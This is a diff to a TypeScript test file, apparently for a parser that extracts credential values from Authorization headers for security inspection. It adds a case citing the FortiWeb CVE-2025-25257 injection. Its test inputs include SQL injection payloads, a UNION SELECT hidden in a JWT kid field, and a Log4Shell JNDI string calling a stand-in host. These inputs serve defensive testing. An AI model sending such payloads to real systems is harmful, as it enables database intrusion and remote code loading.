@@ -189,6 +189,8 @@ describe('placements', () => {
     const jwtHeader = (fields: object) => Buffer.from(JSON.stringify(fields)).toString('base64url');
     const kid = jwtHeader({ alg: 'HS256', kid: "x' UNION SELECT 'secret' --", typ: 'JWT' });
     expect(credentialValues("Bearer ' OR 1=1--")).toEqual([{ name: '', value: "' OR 1=1--" }]);
+    // Quotes are token characters, but no auth-param is named with them: read whole (FortiWeb CVE-2025-25257).
+    expect(credentialValues("Bearer AAAAAA'or'1'='1")).toEqual([{ name: '', value: "AAAAAA'or'1'='1" }]);
     expect(credentialValues('${jndi:ldap://203.0.113.9/a}')).toEqual([{ name: '', value: '${jndi:ldap://203.0.113.9/a}' }]);
     expect(credentialValues(`Bearer ${kid}.eyJzdWIiOiIxIn0.c2ln`)).toEqual([
       { name: '(jwt header).alg', value: 'HS256' },
